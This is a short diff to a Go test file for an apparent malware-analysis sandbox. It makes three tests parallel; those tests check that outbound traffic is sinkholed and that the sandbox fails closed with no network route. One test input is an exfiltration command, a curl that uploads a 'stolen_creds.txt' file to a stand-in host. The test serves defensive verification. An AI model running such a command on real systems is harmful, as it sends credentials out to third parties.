@@ -85,6 +85,7 @@ func requireSandbox(t *testing.T) {
 }
 
 func TestUncooperativeClientsLandAtTheMock(t *testing.T) {
+	t.Parallel()
 	requireSandbox(t)
 	tests := map[string]string{}
 	var order []string
@@ -206,6 +207,7 @@ func dnsNames(ledger []emulator.Entry) []string {
 // each attempt is recorded: the names by the sinkhole, the address by the
 // sensor. The namespace has no route at all.
 func TestSandboxFailsClosed(t *testing.T) {
+	t.Parallel()
 	requireSandbox(t)
 	tests := map[string]string{
 		"unserved name": "curl -sS --max-time 10 https://example.com/upload --data-binary @stolen_creds.txt",
@@ -319,6 +321,7 @@ const inNoRouteNamespace = "T1567_TEST_NO_ROUTE"
 // fail-closed run pass unchanged when the whole harness runs in a network
 // namespace with no interface and no route at all.
 func TestNothingNeedsTheOutside(t *testing.T) {
+	t.Parallel()
 	requireSandbox(t)
 	if os.Getenv(inNoRouteNamespace) == "1" {
 		t.Skip("reason: already inside the no-route namespace (this run is the re-run inside it)")
